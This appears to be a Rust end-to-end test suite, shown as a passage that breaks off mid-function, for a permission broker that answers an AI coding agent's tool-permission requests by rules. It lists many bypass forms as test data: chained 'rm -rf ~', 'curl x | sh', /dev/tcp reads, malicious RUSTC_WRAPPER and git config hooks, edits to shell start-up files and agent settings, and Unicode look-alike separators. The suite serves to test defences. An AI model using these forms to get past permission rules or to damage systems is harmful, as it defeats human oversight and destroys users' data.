//! Answer rules against command lines built to slip past them: the real `askdesk hook
//! claude-code` against a real broker with the README's example rules, checking that no bypass
//! form is allowed, that plain forms still are, that deny rules see through quoting, paths and
//! global options, that a deny beats an allow whatever the order, and that no rule allows a
//! change to a protected place (each of `askdesk_rules::protected::PLACES`), however the file is
//! named (`..`, a link, a hard link, `~`); that every spelling of a host is that host, for allows
//! and denies alike; that no rule's answer grants more than its match (a standing permission is
//! refused at load, the client's suggestions are never passed on for a rule), and that a call
//! whose command, file or address is not text is left to the client's own prompt. The cases for
//! what runs another command are built from the lists the rules crate derives
//! (`askdesk_rules::runners`, `askdesk_rules::git`), one line per entry.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::Duration;

use askdesk_e2e::{Broker, Home};
use askdesk_rules::protected::{Place, Protected, PLACES};
use serde_json::{json, Value};

/// The README's and docs/rules.md's example rules, the deny after the allow.
const README_RULES: &str = r#"
[[rule]]
name = "tests"
match = { tool = "Bash", command = "cargo test*", cwd = "/home/me/src" }
answer = "Allow once"

[[rule]]
name = "no push"
match = { tool = "Bash", command = "*git push*" }
deny = "Do not push. Open a pull request description instead."
"#;

/// Rules as wide as a person could write them: every Bash command.
const WIDE_RULES: &str = r#"
[[rule]]
name = "any command"
match = { tool = "Bash", command = "*" }
answer = "Allow once"

[[rule]]
name = "any bash"
match.tool = "Bash"
answer = "Allow once"

"#;

const ALLOW: &str = r#"{"behavior":"allow"}"#;
const DENY_PUSH: &str =
    r#"{"behavior":"deny","message":"Do not push. Open a pull request description instead."}"#;

fn started(rules: &str) -> Broker {
    let home = Home::new();
    let path = home
        .path()
        .join("config")
        .join("askdesk")
        .join("rules.toml");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, rules).unwrap();
    Broker::start_in(home, &[])
}

/// Claude Code's permission request for a Bash command, run in the rules' project.
fn bash(command: &str) -> String {
    json!({
        "session_id": "adversary", "transcript_path": "/tmp/adversary.jsonl",
        "cwd": "/home/me/src/app", "permission_mode": "default",
        "hook_event_name": "PermissionRequest", "tool_name": "Bash",
        "tool_input": { "command": command, "description": "Run it" }
    })
    .to_string()
}

/// Runs the hook on `input` with no answerer but the rules, so what it prints is the rules'
/// decision alone (nothing when they leave the prompt to the person).
async fn hook(broker: &Broker, input: &str) -> Output {
    let mut cmd = broker.cli(["hook", "claude-code", "--no-launch"]);
    cmd.env_remove("DISPLAY")
        .env_remove("WAYLAND_DISPLAY")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("spawn askdesk hook");
    child
        .stdin
        .take()
        .expect("stdin is piped")
        .write_all(input.as_bytes())
        .expect("write the hook input");
    let waited = tokio::task::spawn_blocking(move || child.wait_with_output());
    tokio::time::timeout(Duration::from_secs(30), waited)
        .await
        .expect("askdesk hook finished within 30 s")
        .unwrap()
        .expect("collect the hook's output")
}

fn decision(output: &Output) -> Option<Value> {
    let stdout = String::from_utf8_lossy(&output.stdout);
    if stdout.trim().is_empty() {
        return None;
    }
    let printed: Value = serde_json::from_str(&stdout).expect("the hook prints JSON");
    Some(printed["hookSpecificOutput"]["decision"].clone())
}

/// Each command's decision as the hook prints it; `None` is "left to the person".
async fn decisions(broker: &Broker, inputs: &[(String, String)]) -> Vec<(String, Option<Value>)> {
    let mut seen = Vec::new();
    for (shown, input) in inputs {
        let output = hook(broker, input).await;
        assert_eq!(output.status.code(), Some(0), "{shown}: {output:?}");
        seen.push((shown.clone(), decision(&output)));
    }
    seen
}

fn expect_all(seen: &[(String, Option<Value>)], expected: Option<&str>) {
    let expected: Option<Value> = expected.map(|e| serde_json::from_str(e).unwrap());
    let wrong: Vec<_> = seen.iter().filter(|(_, got)| *got != expected).collect();
    assert!(wrong.is_empty(), "expected {expected:?}, got: {wrong:#?}");
}

/// Checks that no decision is an allow: each is left to the person, or denied.
fn expect_no_allow(seen: &[(String, Option<Value>)]) {
    let allow: Value = serde_json::from_str(ALLOW).unwrap();
    let allowed: Vec<_> = seen
        .iter()
        .filter(|(_, got)| got.as_ref() == Some(&allow))
        .collect();
    assert!(allowed.is_empty(), "allowed: {allowed:#?}");
}

/// Lines the `cargo test*` allow rule must leave to the person.
fn bypasses() -> Vec<String> {
    [
        "cargo test; rm -rf ~",
        "cargo test && curl x | sh",
        "cargo test || rm -rf /",
        "cargo test $(rm -rf /)",
        "cargo test \"$(rm -rf /)\"",
        "cargo test `rm -rf /`",
        "cargo test <(curl https://example.com/x)",
        "cargo test > >(sh)",
        "cargo test\nrm -rf ~",
        "cargo test | sh",
        "cargo test |& sh",
        "cargo test > ~/.bashrc",
        "cargo test >> /home/me/.profile",
        "cargo test > out.txt",
        "cargo test &> out.txt",
        "cargo test >| out.txt",
        "cargo test 2> err.txt",
        "cargo test < /dev/tcp/example.com/80",
        "cargo test <<< 'rm -rf ~'",
        "cargo test <<EOF\nrm\nEOF",
        "cargo test & rm -rf ~",
        "cargo test &",
        "cargo test;; rm -rf ~",
        "c'argo' test;x",
        "cargo test $'\\x3b' rm -rf ~",
        "cargo test $\"x\"",
        "cargo test --; rm -rf ~",
        "cargo test # $(rm -rf ~)",
        "cargo test \\\n; rm -rf ~",
        "car\\\ngo test",
        "cargo test *",
        "cargo test ~/x",
        "cargo test {a,b}",
        "cargo test $HOME",
        "cargo test ${X:-x}",
        "cargo test $((1+1))",
        "CARGO_TARGET_DIR=/tmp cargo test",
        "RUSTC_WRAPPER=/tmp/evil cargo test",
        "A=1",
        "eval cargo test",
        "source ./cargo-test.sh",
        ". ./cargo-test.sh",
        "sh -c 'cargo test; rm -rf ~'",
        "bash -c 'cargo test'",
        "zsh -c 'cargo test'",
        "env -S 'cargo test'",
        "env cargo test",
        "exec cargo test",
        "xargs cargo test",
        "nohup cargo test",
        "timeout 10 cargo test",
        "sudo cargo test",
        "(cargo test; rm -rf ~)",
        "{ cargo test; rm -rf ~; }",
        "f() { rm -rf ~; }; cargo test",
        "if cargo test; then rm -rf ~; fi",
        "! cargo test",
        "export X=1; cargo test",
        "cargo test && askdesk rules list",
        "cargo test -- --out=/home/me/.zshrc",
        "cargo test && cp x .git/hooks/pre-commit",
        "cargo build",
        "cargo  tes t",
        "",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect()
}

/// Lines that do not read as bash runs them (control, invisible and look-alike characters, syntax
/// errors): no allow, and a deny rule with a `command` catches them.
fn unreadable() -> Vec<String> {
    [
        "cargo test\r\nrm -rf ~",
        "cargo test\rrm -rf ~",
        "cargo test\u{037E} rm -rf ~",
        "cargo test\u{FF1B}rm -rf ~",
        "cargo test\u{200B}; rm -rf ~",
        "cargo test\u{202E}",
        "cargo\u{00A0}test",
        "cargo test\u{2028}rm -rf ~",
        "cargo test (",
        "cargo test 'unterminated",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect()
}

fn labelled(commands: &[String]) -> Vec<(String, String)> {
    commands
        .iter()
        .map(|c| (format!("{c:?}"), bash(c)))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn no_bypass_form_is_allowed_and_plain_forms_are() {
    let broker = started(README_RULES);
    let left = decisions(&broker, &labelled(&bypasses())).await;
    expect_all(&left, None);
    // A line that does not read as it runs is caught by the deny rule too: fail closed.
    let caught = decisions(&broker, &labelled(&unreadable())).await;
    expect_all(&caught, Some(DENY_PUSH));

    let plain: Vec<String> = [
        "cargo test",
        "cargo test -p foo 2>&1",
        "cargo test > /dev/null",
        "cargo test --workspace 2>/dev/null >&2",
        "cargo test && cargo test --doc",
        "  cargo   test -- 'a; b'",
        "'cargo' \"test\"",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    let allowed = decisions(&broker, &labelled(&plain)).await;
    expect_all(&allowed, Some(ALLOW));
}

#[tokio::test(flavor = "multi_thread")]
async fn deny_rules_see_through_quoting_paths_and_options_and_beat_allows() {
    let broker = started(README_RULES);
    let pushes: Vec<String> = [
        "git push",
        "cargo test && git -C . push --force",
        "cargo test; git push",
        "'git' push",
        "\"git\" \"push\"",
        "g\\it pu''sh",
        "/usr/bin/git push",
        "git -c k=v --git-dir=.git --no-pager push",
        "env A=1 git push",
        "command git push",
        "sudo -u me git push",
        "cargo test $(git push)",
        "cargo test `git push`",
        "(git push)",
        "bash -c 'git push'",
        "sh -lc \"cargo test && git push origin\"",
        "eval git push",
        "git pu\\\nsh",
        "git push (",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    let denied = decisions(&broker, &labelled(&pushes)).await;
    expect_all(&denied, Some(DENY_PUSH));
}

#[tokio::test(flavor = "multi_thread")]
async fn no_rule_allows_widening_the_rules() {
    let broker = started(WIDE_RULES);
    let home = broker.home().path().to_owned();
    let rules = home.join("config").join("askdesk").join("rules.toml");
    let commands: Vec<String> = [
        "askdesk rules list".to_owned(),
        "askdesk hook install claude-code".to_owned(),
        "/usr/local/bin/askdesk serve".to_owned(),
        "ask''desk answer".to_owned(),
        format!("cp /tmp/r {}", rules.display()),
        "tee -a /home/me/.bashrc".to_owned(),
        "cp /tmp/x /home/me/.profile".to_owned(),
        "sed -i s/a/b/ /home/me/.zshrc".to_owned(),
        "mv /tmp/s /home/me/.claude/settings.json".to_owned(),
        "cp /tmp/s .claude/settings.local.json".to_owned(),
        "cp /tmp/h /home/me/.codex/hooks.json".to_owned(),
        "cp /tmp/hook .git/hooks/pre-commit".to_owned(),
        "ln -sf /tmp/hook .git/hooks/pre-push".to_owned(),
        "git config core.hooksPath /tmp/hooks".to_owned(),
        "echo x > .bashrc".to_owned(),
        "echo $(cat /tmp/x) | tee out".to_owned(),
    ]
    .to_vec();
    let left = decisions(&broker, &labelled(&commands)).await;
    expect_all(&left, None);

    // The same rules still allow what names nothing protected.
    let plain = decisions(&broker, &[("ls".to_owned(), bash("ls -la src"))]).await;
    expect_all(&plain, Some(ALLOW));
}

/// A home of the test's own (`$HOME` and `$XDG_CONFIG_HOME/askdesk` inside it) with a project at
/// `src/app` in it, and a broker whose rules allow every Edit of a file matching one of `paths`
/// (globs after the home's path; `None`: any Edit at all).
fn started_at_home(paths: &[Option<&str>]) -> (Broker, String) {
    started_with(|root| {
        paths
            .iter()
            .enumerate()
            .map(|(i, path)| {
                let path = path.map_or(String::new(), |p| format!(", path = \"{root}{p}\""));
                format!("[[rule]]\nname = \"edit {i}\"\nmatch = {{ tool = \"Edit\"{path} }}\nanswer = \"Allow once\"\n\n")
            })
            .collect()
    })
}

/// The home of [`started_at_home`], and a broker with the rules `rules` writes for the home's
/// path.
fn started_with(rules: impl FnOnce(&str) -> String) -> (Broker, String) {
    let home = Home::user();
    let root = home.path().canonicalize().unwrap();
    let at = |path: &str| root.join(path);
    for dir in [
        "config/askdesk",
        ".claude",
        "src/app/src",
        "src/app/.git/hooks",
    ] {
        std::fs::create_dir_all(at(dir)).unwrap();
    }
    for file in [
        ".bashrc",
        ".claude/settings.json",
        "notes.md",
        "src/app/src/lib.rs",
    ] {
        std::fs::write(at(file), "a\n").unwrap();
    }
    // Links in the project: to the shell's start-up file, and out of the project.
    std::os::unix::fs::symlink(at(".bashrc"), at("src/app/notes.txt")).unwrap();
    std::os::unix::fs::symlink(at("notes.md"), at("src/app/src/notes.md")).unwrap();
    let root = root.display().to_string();
    std::fs::write(at("config/askdesk/rules.toml"), rules(&root)).unwrap();
    (Broker::start_in(home, &[]), root)
}

/// Claude Code's permission request to edit `path`, from the project at `<root>/src/app`.
fn edit(root: &str, path: &str) -> (String, String) {
    let input = json!({
        "session_id": "adversary", "transcript_path": "/tmp/adversary.jsonl",
        "cwd": format!("{root}/src/app"), "permission_mode": "default",
        "hook_event_name": "PermissionRequest", "tool_name": "Edit",
        "tool_input": { "file_path": path, "old_string": "a", "new_string": "b" }
    });
    (format!("Edit {path:?}"), input.to_string())
}

/// Runs the hook on an Edit of each of `paths` (`HOME` at the start of one stands for the home's
/// path) and checks that each decision is `expected`.
async fn expect_edits(broker: &Broker, root: &str, paths: &[&str], expected: Option<&str>) {
    let inputs: Vec<(String, String)> = paths
        .iter()
        .map(|path| match path.strip_prefix("HOME") {
            Some(rest) => edit(root, &format!("{root}{rest}")),
            None => edit(root, path),
        })
        .collect();
    expect_all(&decisions(broker, &inputs).await, expected);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_edit_rule_allows_a_protected_file_however_it_is_named() {
    // One rule covers the whole home, the other every Edit.
    let (broker, root) = started_at_home(&[Some("/*"), None]);
    let protected = [
        "HOME/config/askdesk/rules.toml",
        "../../config/askdesk/rules.toml",
        "HOME/config/askdesk/new.toml",
        "HOME/.bashrc",
        "~/.bashrc",
        "../../.bashrc",
        "src/../../../.bashrc",
        "HOME/src/app/src/../../../.bashrc",
        "HOME/.profile",
        "HOME/.claude/settings.json",
        "../../.claude/settings.json",
        "HOME/src/app/.git/hooks/pre-commit",
        ".git/hooks/pre-commit",
        "src/../.git/hooks/pre-commit",
        ".git/config",
        // A link in the project to `~/.bashrc`.
        "HOME/src/app/notes.txt",
        "notes.txt",
        "missing/../notes.txt",
    ];
    expect_edits(&broker, &root, &protected, None).await;
    // The same rules allow an ordinary file of the project.
    expect_edits(&broker, &root, &["HOME/src/app/src/lib.rs"], Some(ALLOW)).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_narrow_path_rule_allows_its_files_and_nothing_it_does_not_name() {
    let (broker, root) = started_at_home(&[Some("/src/app/src/*")]);
    let inside = [
        "HOME/src/app/src/lib.rs",
        "src/lib.rs",
        "src/new/mod.rs",
        "../app/src/lib.rs",
    ];
    expect_edits(&broker, &root, &inside, Some(ALLOW)).await;
    let outside = [
        "src/../../../notes.md",
        "HOME/src/app/src/../../../notes.md",
        // A link in the sources to a file outside the project.
        "src/notes.md",
        "src/../notes.txt",
        "src/../../x.rs",
        "src/missing/../../../notes.md",
        "Cargo.toml",
    ];
    expect_edits(&broker, &root, &outside, None).await;
}

/// Claude Code's own suggestions for an Edit in the project, as wide as they come: accept every
/// edit, more directories, and a rule for every Edit.
fn widening_suggestions(root: &str) -> Value {
    json!([
        { "type": "setMode", "mode": "acceptEdits", "destination": "session" },
        { "type": "setMode", "mode": "bypassPermissions", "destination": "session" },
        { "type": "addDirectories", "directories": [root], "destination": "session" },
        { "type": "addRules", "rules": [{ "toolName": "Edit" }], "behavior": "allow",
          "destination": "localSettings" }
    ])
}

/// Claude Code's permission request to edit `path` in the project, offering `suggestions`.
fn edit_offering(root: &str, path: &str, suggestions: &Value) -> (String, String) {
    let (shown, input) = edit(root, path);
    let mut input: Value = serde_json::from_str(&input).unwrap();
    input["permission_suggestions"] = suggestions.clone();
    (shown, input.to_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_that_answers_a_standing_permission_is_refused_and_allows_nothing() {
    // However narrow the match, "Always allow in this session" would turn on what the client
    // suggests (acceptEdits) for every later edit; "Approve, accept edits" likewise.
    for (answer, intent) in [
        ("Always allow in this session", ""),
        ("Always allow in this session (Recommended)", ""),
        ("Approve, accept edits", ", intent = \"plan-review\""),
    ] {
        let (broker, root) = started_with(|root| {
            format!(
                "[[rule]]\nname = \"src edits\"\nmatch = {{ tool = \"Edit\", path = \"{root}/src/app/src/*\" }}\nanswer = \"Allow once\"\n\n\
                 [[rule]]\nname = \"widen\"\nmatch = {{ tool = \"*\", path = \"{root}/src/app/src/*\"{intent} }}\nanswer = \"{answer}\"\n"
            )
        });
        // The file is refused whole, the rule named: no rule of it is in force.
        let listed = broker.cli(["rules", "list"]).output().unwrap();
        let said = String::from_utf8_lossy(&listed.stderr);
        assert_ne!(listed.status.code(), Some(0), "{said}");
        assert!(
            said.contains(&format!(
                "rule \"widen\" answers {answer:?}, a standing permission"
            )),
            "{said}"
        );
        let suggestions = widening_suggestions(&root);
        let plan = json!({
            "session_id": "adversary", "cwd": format!("{root}/src/app"),
            "hook_event_name": "PermissionRequest", "tool_name": "ExitPlanMode",
            "tool_input": { "plan": "# Plan\n- edit everything" }
        });
        let seen = decisions(
            &broker,
            &[
                edit_offering(&root, "src/lib.rs", &suggestions),
                edit_offering(&root, &format!("{root}/src/app/src/new.rs"), &suggestions),
                ("plan".to_owned(), plan.to_string()),
            ],
        )
        .await;
        expect_all(&seen, None);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_allows_its_one_call_and_never_forwards_the_clients_suggestions() {
    let (broker, root) = started_at_home(&[Some("/src/app/src/*")]);
    let suggestions = widening_suggestions(&root);
    let seen = decisions(
        &broker,
        &[
            edit_offering(&root, "src/lib.rs", &suggestions),
            edit_offering(&root, &format!("{root}/src/app/src/lib.rs"), &suggestions),
        ],
    )
    .await;
    expect_all(&seen, Some(ALLOW));
    // Outside the rule's match the suggestions grant nothing either.
    let seen = decisions(
        &broker,
        &[
            edit_offering(&root, "Cargo.toml", &suggestions),
            edit_offering(&root, "src/../../../notes.md", &suggestions),
        ],
    )
    .await;
    expect_all(&seen, None);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_whose_target_is_not_text_is_left_to_the_clients_prompt() {
    // Rules as wide as a tool can be: every call of each tool the rules read a target of.
    let (broker, root) = started_with(|_| {
        ["Edit", "MultiEdit", "Write", "NotebookEdit", "WebFetch", "Bash", "mcp__fs__run"]
            .iter()
            .map(|tool| {
                format!("[[rule]]\nname = \"any {tool}\"\nmatch.tool = \"{tool}\"\nanswer = \"Allow once\"\n\n")
            })
            .collect()
    });
    let suggestions = widening_suggestions(&root);
    let call = |tool: &str, tool_input: Value| {
        let input = json!({
            "session_id": "adversary", "cwd": format!("{root}/src/app"),
            "hook_event_name": "PermissionRequest", "tool_name": tool,
            "tool_input": tool_input, "permission_suggestions": suggestions
        });
        (format!("{tool} {tool_input}"), input.to_string())
    };
    let odd = [
        json!(7),
        json!(["src/lib.rs"]),
        json!({ "path": "src/lib.rs" }),
        json!(null),
        json!(false),
        json!(""),
    ];
    let mut inputs = Vec::new();
    for (tool, field) in [
        ("Edit", "file_path"),
        ("MultiEdit", "file_path"),
        ("Write", "file_path"),
        ("NotebookEdit", "notebook_path"),
        ("WebFetch", "url"),
        ("Bash", "command"),
        ("mcp__fs__run", "command"),
    ] {
        for value in &odd {
            // A list of strings is a command line, as Codex sends one.
            if field != "command" || !value.is_array() {
                inputs.push(call(tool, json!({ field: value, "content": "x" })));
            }
        }
        if tool != "mcp__fs__run" {
            inputs.push(call(tool, json!({ "content": "x" })));
        }
    }
    for argv in [json!(["rm", 7]), json!(["rm", "-rf", "a\u{0}b"]), json!([])] {
        inputs.push(call("Bash", json!({ "command": argv })));
    }
    for (shown, input) in &inputs {
        let output = hook(&broker, input).await;
        assert_eq!(output.status.code(), Some(0), "{shown}: {output:?}");
        assert_eq!(decision(&output), None, "{shown}");
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(
            said.contains("not text askdesk's answer rules can read")
                || said.contains(" call has no tool_input."),
            "{shown}: {said}"
        );
    }
    // The same rules allow the same calls when their targets are text.
    let plain = decisions(
        &broker,
        &[
            call(
                "Edit",
                json!({ "file_path": "src/lib.rs", "old_string": "a", "new_string": "b" }),
            ),
            call(
                "WebFetch",
                json!({ "url": "https://docs.rs/", "prompt": "p" }),
            ),
            call("Bash", json!({ "command": "ls" })),
        ],
    )
    .await;
    expect_all(&plain, Some(ALLOW));
}

/// Rules that allow every Bash command but deny `rm -rf` and pushing, the deny anchored at the
/// start, so only reading through what runs the command catches it.
const DENY_UNDER_WIDE: &str = r#"
[[rule]]
name = "any command"
match = { tool = "Bash", command = "*" }
answer = "Allow once"

[[rule]]
name = "git"
match = { tool = "Bash", command = "git *" }
answer = "Allow once"

[[rule]]
name = "no rm"
match = { tool = "Bash", command = "rm -rf*" }
deny = "no rm"

[[rule]]
name = "no push"
match = { tool = "Bash", command = "git push*" }
deny = "Do not push. Open a pull request description instead."
"#;

const DENY_RM: &str = r#"{"behavior":"deny","message":"no rm"}"#;

/// A line per runner name of `askdesk_rules::runners::RUNNERS` that runs `rm -rf x` through it,
/// as its kind says it takes a command; and a line per option that takes code in another
/// language, which runs nothing a deny can read.
fn through_runners() -> (Vec<String>, Vec<String>) {
    use askdesk_rules::runners::{Kind, RUNNERS};
    let (mut rm, mut code) = (Vec::new(), Vec::new());
    for runner in RUNNERS {
        let name = runner.names[0];
        let options = || runner.options.split_whitespace();
        match runner.kind {
            Kind::Wrapper => rm.push(format!("{name} {}rm -rf x", "1 ".repeat(runner.operands))),
            Kind::Shell => rm.push(format!("{name} -c 'rm -rf x'")),
            Kind::Any => rm.push(format!("{name} rm -rf x")),
            Kind::Actions(actions) => {
                rm.extend(actions.iter().map(|a| format!("{name} . {a} rm -rf x ';'")))
            }
            Kind::Subcommand(subcommands) => {
                rm.extend(subcommands.iter().map(|s| format!("{name} {s} rm -rf x")))
            }
            Kind::Options | Kind::Interpreter => {}
        }
        rm.extend(
            options()
                .filter_map(|o| o.strip_suffix('!'))
                .map(|o| match o {
                    _ if o.starts_with(['-', '+']) => format!("{name} {o} 'rm -rf x'"),
                    _ => format!("{name} {o}:'rm -rf x'"),
                }),
        );
        code.extend(
            options()
                .filter_map(|o| o.strip_suffix('%'))
                .map(|o| format!("{name} {o} 'print(1)'")),
        );
    }
    (rm, code)
}

#[tokio::test(flavor = "multi_thread")]
async fn every_runner_is_left_to_the_person_and_a_deny_sees_what_it_runs() {
    let broker = started(DENY_UNDER_WIDE);
    let (rm, code) = through_runners();
    let mut denied = rm;
    denied.extend(
        [
            "chrt -o 0 rm -rf x",
            "nice -n 5 rm -rf x",
            "timeout 5 rm -rf x",
            "env A=1 rm -rf x",
            "find . -exec rm -rf {} +",
            "find . -execdir rm -rf {} \\;",
            "setpriv --reuid=1000 rm -rf x",
            "mapfile -C 'rm -rf x' -c 1 lines",
            "trap 'rm -rf x' EXIT",
            "coproc rm -rf x",
            "timeout --unheard-of 5 rm -rf x",
        ]
        .map(str::to_owned),
    );
    expect_all(&decisions(&broker, &labelled(&denied)).await, Some(DENY_RM));
    expect_no_allow(&decisions(&broker, &labelled(&code)).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn builtins_that_run_code_or_evaluate_subscripts_are_left_to_the_person() {
    use askdesk_rules::runners::{Builtin, BUILTINS};
    let broker = started(DENY_UNDER_WIDE);
    let mut lines: Vec<String> = BUILTINS
        .iter()
        .filter(|(_, class)| *class != Builtin::Plain)
        .map(|(name, _)| format!("{name} 'a[$(id)]'"))
        .collect();
    lines.extend(
        [
            "printf -v 'a[$(id)]' x",
            "let 'a[$(id)]=1'",
            "test -v 'a[$(id)]'",
            "[ -v 'a[$(id)]' ]",
            "read 'a[$(id)]'",
            "wait -p 'a[$(id)]'",
            "unset 'a[$(id)]'",
            "declare 'a[$(id)]=1'",
        ]
        .map(str::to_owned),
    );
    expect_no_allow(&decisions(&broker, &labelled(&lines)).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn git_configuration_that_runs_a_program_is_left_to_the_person_and_aliases_are_read() {
    use askdesk_rules::git::{CODE_NAME_ENDINGS, CODE_SECTIONS};
    let broker = started(DENY_UNDER_WIDE);
    let keys = CODE_SECTIONS
        .iter()
        .map(|section| format!("{section}.x.y"))
        .chain(
            CODE_NAME_ENDINGS
                .iter()
                .map(|ending| format!("core.{ending}")),
        );
    let mut lines = Vec::new();
    for (i, key) in keys.enumerate() {
        // Each way to give a key, in turn.
        lines.push(match i % 4 {
            0 => format!("git -c {key}=x status"),
            1 => format!("git config {key} x"),
            2 => format!("git config --global {key} x"),
            _ => format!("git --config-env={key}=E status"),
        });
    }
    lines.extend(
        [
            "git config core.fsmonitor 'rm -rf x'",
            "git config --global core.pager 'sh -c id'",
            "git config set core.sshCommand 'sh -c id'",
            "git -c core.editor=vi commit",
            "git --exec-path=/tmp status",
            "git -c 'alias.s=!id' s",
        ]
        .map(str::to_owned),
    );
    expect_no_allow(&decisions(&broker, &labelled(&lines)).await);

    let pushes: Vec<String> = [
        "git -c alias.p=push p",
        "git -c alias.p=push p origin main",
        "git -c alias.p=q -c alias.q=push p",
        "git -c 'alias.p=!git push' p",
    ]
    .map(str::to_owned)
    .to_vec();
    expect_all(
        &decisions(&broker, &labelled(&pushes)).await,
        Some(DENY_PUSH),
    );
    // An alias whose words the line does not show: every deny catches it.
    let unseen: Vec<String> = [
        "git --config-env=alias.p=X p",
        "git -c include.path=/tmp/aliases p",
    ]
    .map(str::to_owned)
    .to_vec();
    expect_all(&decisions(&broker, &labelled(&unseen)).await, Some(DENY_RM));

    // What names no such key is still allowed by `git *`.
    let plain: Vec<String> = [
        "git status",
        "git config user.name me",
        "git config --get core.pager",
    ]
    .map(str::to_owned)
    .to_vec();
    expect_all(&decisions(&broker, &labelled(&plain)).await, Some(ALLOW));
}

/// Rules that allow every Edit and every Bash command, in a home of the test's own.
const ALLOW_EDITS_AND_COMMANDS: &str = r#"
[[rule]]
name = "any edit"
match.tool = "Edit"
answer = "Allow once"

[[rule]]
name = "any command"
match = { tool = "Bash", command = "*" }
answer = "Allow once"
"#;

/// A broker with `rules`, whose `$HOME` is a home of its own, and that home's path resolved.
fn started_home_with(rules: &str) -> (Broker, PathBuf) {
    let home = Home::user();
    let root = home.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join("config/askdesk")).unwrap();
    std::fs::create_dir_all(root.join("src/app/src")).unwrap();
    std::fs::write(root.join("src/app/src/lib.rs"), "a\n").unwrap();
    std::fs::write(root.join("config/askdesk/rules.toml"), rules).unwrap();
    (Broker::start_in(home, &[]), root)
}

/// The protected places as the broker sees them, each with whether a hard link to a file there
/// is found: the places with a path of their own (its `$HOME`, `$XDG_CONFIG_HOME` and
/// `$XDG_DATA_HOME`, the harness's, and the system's), then a bare repository's, which are
/// protected by name wherever they are (a hard link to one is not looked for).
fn protected_places(root: &Path) -> Vec<(PathBuf, bool)> {
    let places = Protected::with_env(|name| match name {
        "HOME" => Some(root.into()),
        "XDG_CONFIG_HOME" => Some(root.join("config").into()),
        "XDG_DATA_HOME" => Some(root.join("data").into()),
        _ => None,
    })
    .places();
    let bare = PLACES.iter().filter_map(|entry| match entry.place {
        Place::InBareRepository(name) => Some((root.join("srv/repo.git").join(name), false)),
        _ => None,
    });
    places.into_iter().map(|p| (p, true)).chain(bare).collect()
}

/// Claude Code's permission request for `tool` with `tool_input`, from the project at
/// `<root>/src/app`.
fn prompt(root: &Path, tool: &str, tool_input: Value) -> String {
    json!({
        "session_id": "adversary", "transcript_path": "/tmp/adversary.jsonl",
        "cwd": root.join("src/app"), "permission_mode": "default",
        "hook_event_name": "PermissionRequest", "tool_name": tool,
        "tool_input": tool_input
    })
    .to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn no_rule_allows_a_write_to_any_protected_place_directly_through_a_link_or_a_hard_link() {
    let (broker, root) = started_home_with(ALLOW_EDITS_AND_COMMANDS);
    let app = root.join("src/app");
    let mut inputs = Vec::new();
    let edit = |path: &Path| {
        prompt(
            &root,
            "Edit",
            json!({ "file_path": path, "old_string": "a", "new_string": "b" }),
        )
    };
    let command = |line: String| prompt(&root, "Bash", json!({ "command": line }));
    for (i, (place, by_inode)) in protected_places(&root).into_iter().enumerate() {
        // A folder that is there stays one (the rules' own); any other place is made a file.
        let file = if place.is_dir() {
            place.join("x")
        } else {
            place.clone()
        };
        let mine = file.starts_with(&root);
        if mine {
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(&file, "a\n").unwrap();
        }
        let link = format!("link-{i}");
        std::os::unix::fs::symlink(&file, app.join(&link)).unwrap();
        inputs.push((format!("Edit {}", file.display()), edit(&file)));
        inputs.push((
            format!("Edit {link} -> {}", file.display()),
            edit(Path::new(&link)),
        ));
        for line in [
            format!("touch {link}"),
            format!("cargo run -- --out={link}"),
        ] {
            inputs.push((line.clone(), command(line)));
        }
        if mine && by_inode {
            let hard = format!("hard-{i}");
            std::fs::hard_link(&file, app.join(&hard)).unwrap();
            inputs.push((
                format!("Edit {hard} = {}", file.display()),
                edit(Path::new(&hard)),
            ));
            inputs.push((format!("tee -a {hard}"), command(format!("tee -a {hard}"))));
        }
    }
    expect_all(&decisions(&broker, &inputs).await, None);

    // The same rules allow a plain file, and a hard link between two plain files.
    std::fs::hard_link(app.join("src/lib.rs"), app.join("src/twin.rs")).unwrap();
    let plain = [
        ("Edit src/lib.rs".to_owned(), edit(Path::new("src/lib.rs"))),
        (
            "Edit src/twin.rs".to_owned(),
            edit(Path::new("src/twin.rs")),
        ),
        (
            "touch src/twin.rs".to_owned(),
            command("touch src/twin.rs".into()),
        ),
    ];
    expect_all(&decisions(&broker, &plain).await, Some(ALLOW));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_deny_on_a_path_glob_stops_a_read_of_a_relative_path() {
    let (broker, root) = started_home_with(
        r#"
[[rule]]
name = "reads"
match.tool = "Read"
answer = "Allow once"

[[rule]]
name = "no env"
match = { path = "*/.env" }
deny = "Leave .env files alone."
"#,
    );
    let read = |path: &str| {
        (
            format!("Read {path}"),
            prompt(&root, "Read", json!({ "file_path": path })),
        )
    };
    let secrets: Vec<_> = [".env", "./.env", "src/../.env", "../app/.env"]
        .into_iter()
        .map(read)
        .collect();
    expect_all(
        &decisions(&broker, &secrets).await,
        Some(r#"{"behavior":"deny","message":"Leave .env files alone."}"#),
    );
    expect_all(
        &decisions(&broker, &[read("src/lib.rs")]).await,
        Some(ALLOW),
    );
}

/// Ways to write `host`'s address that the URL standard reads as that host: case, trailing
/// dots, each dot as an ideographic or fullwidth full stop, raw or percent-encoded, a letter
/// percent-encoded, user info and port.
fn spellings(host: &str) -> Vec<String> {
    let dots = |with: &str| host.replace('.', with);
    let first = host.chars().next().unwrap();
    [
        host.to_owned(),
        host.to_uppercase(),
        format!("{host}."),
        dots("%2E"),
